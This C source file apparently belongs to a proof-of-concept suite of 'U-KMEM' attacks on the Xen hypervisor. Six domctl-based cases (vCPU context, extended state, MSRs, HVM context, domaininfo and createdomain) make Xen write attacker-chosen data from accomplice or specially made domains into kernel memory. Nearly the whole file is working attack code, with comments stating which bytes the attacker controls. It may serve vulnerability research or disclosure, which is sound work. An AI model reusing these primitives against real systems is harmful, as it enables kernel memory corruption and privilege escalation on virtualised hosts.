// SPDX-License-Identifier: GPL-2.0-only
/*
 * U-KMEM through domctl: reports on a domain, be it dom0 itself or one that is
 * made for the purpose. What such a domain contains is the attacker's to
 * choose, and so is then what Xen writes.
 */
#include "kmem.h"

#include <xen/hvm/save.h>

/* The part of a domctl up to and with a field. */
#define UP_TO(field)                                                           \
    (offsetof(struct xen_domctl, u.field) +                                    \
     sizeof(((struct xen_domctl *)0)->u.field))
#define HEADER_ONLY offsetof(struct xen_domctl, u)

/* A row: the operation and its fields. _BACK: as an argument in the kernel. */
#define KMEM_DOMCTL(id, title, command, ...)                                   \
    KMEM(id, title,                                                            \
         domctl(&(struct xen_domctl){ .cmd = XEN_DOMCTL_##command,             \
                                      __VA_ARGS__ }))
#define KMEM_DOMCTL_BACK(id, title, command, input, ...)                       \
    KMEM(id, title,                                                            \
         domctl_in_host_name(                                                  \
             (struct xen_domctl){ .cmd = XEN_DOMCTL_##command, __VA_ARGS__ },  \
             input))

/* ---- into a buffer ---- */

/*
 * U-KMEM-VCPUCTX: 5 KB, the registers and tables of a vCPU. What runs there is
 * the attacker's as well, and puts into them what it likes.
 */
KMEM_ATTACK("U-KMEM-VCPUCTX", "an accomplice's registers into the kernel")
{
    long result;

    accomplice_start();
    result = DOMCTL(getvcpucontext, accomplice_domid(),
                    .u.vcpucontext.ctxt.p = (void *)in_own_pages(NULL, 0));
    accomplice_end();

    return result;
}

/*
 * U-KMEM-EXTSTATE: some hundred bytes to a few KB, the vector registers of a
 * vCPU, which can be set before.
 */
KMEM_ATTACK("U-KMEM-EXTSTATE", "a vCPU's vector registers into the kernel")
{
    struct xen_domctl op = { .cmd = XEN_DOMCTL_getvcpuextstate,
                             .domain = other_domain(DOMU_HVM) };

    domctl(&op); /* without a buffer: tells mask and size */
    op.u.vcpuextstate.buffer.p = (void *)in_own_pages(NULL, 0);
    return domctl(&op);
}

/*
 * U-KMEM-VCPUMSRS: 16 bytes for each of a vCPU's machine registers that is not
 * zero, of which one is set just before; and back into the argument, how many
 * there are.
 */
KMEM_ATTACK("U-KMEM-VCPUMSRS", "a vCPU's machine registers into the kernel")
{
    xen_domctl_vcpu_msr_t tsc_aux = { .index = 0xc0000103,
                                      .value = 0x746f6f72 };
    struct xen_domctl op = {
        .cmd = XEN_DOMCTL_set_vcpu_msrs,
        .domain = other_domain(DOMU_PV),
        .u.vcpu_msrs = { .msrs.p = &tsc_aux, .msr_count = 1 },
    };

    domctl(&op);

    op.cmd = XEN_DOMCTL_get_vcpu_msrs;
    op.u.vcpu_msrs.msrs.p = AT_VICTIM;
    op.u.vcpu_msrs.msr_count = 7;
    return domctl_in_host_name(op, UP_TO(vcpu_msrs));
}

/* U-KMEM-HVMCTX: the whole state of an HVM domain, which can be set before. */
KMEM_ATTACK("U-KMEM-HVMCTX", "an HVM domain's state into the kernel")
{
    struct xen_domctl op = { .cmd = XEN_DOMCTL_gethvmcontext,
                             .domain = other_domain(DOMU_HVM) };

    domctl(&op); /* without a buffer: tells the size */
    if ( op.u.hvmcontext.size > OWN_SIZE )
        return cannot_show("the state is larger than the memory for it");

    op.u.hvmcontext.buffer.p = (void *)in_own_pages(NULL, 0);
    return domctl(&op);
}

/* ---- back into the argument ---- */

/*
 * U-KMEM-DOMINFO: some 120 bytes about a domain, 16 of them its handle, which
 * the attacker sets just before.
 */
KMEM_ATTACK("U-KMEM-DOMINFO", "an argument in the kernel: getdomaininfo")
{
    struct xen_domctl op = { .cmd = XEN_DOMCTL_getdomaininfo };
    long result;

    set_handle(new_mark());
    result = domctl_in_host_name(op, HEADER_ONLY);
    set_handle((char[MARK_SIZE]){ 0 });

    return result;
}

/*
 * U-KMEM-CREATE: 2 bytes, the number of a new domain.
 *
 * The argument is too long for the host name; as the number is found by asking
 * for it, it is the attacker's to choose.
 */
KMEM_ATTACK("U-KMEM-CREATE", "an argument in the kernel: createdomain")
{
    struct xen_domctl op = {
        .cmd = XEN_DOMCTL_createdomain,
        .u.createdomain = { .max_vcpus = 1,
                            .max_evtchn_port = -1U,
                            .max_grant_frames = -1,
                            .max_maptrack_frames = -1,
                            .grant_opts = 1 },
    };
    struct xen_domctl destroy = { .cmd = XEN_DOMCTL_destroydomain };
    uint64_t argument;
    long result;

    op.interface_version = domctl_version();
    argument = in_own_pages(&op, sizeof(op));
    result = hypercall1(__HYPERVISOR_domctl, argument);
    if ( read_back(argument + offsetof(struct xen_domctl, domain),
                   &destroy.domain, sizeof(destroy.domain)) )
        domctl(&destroy);

    return result;
}

#include "domctl.def"
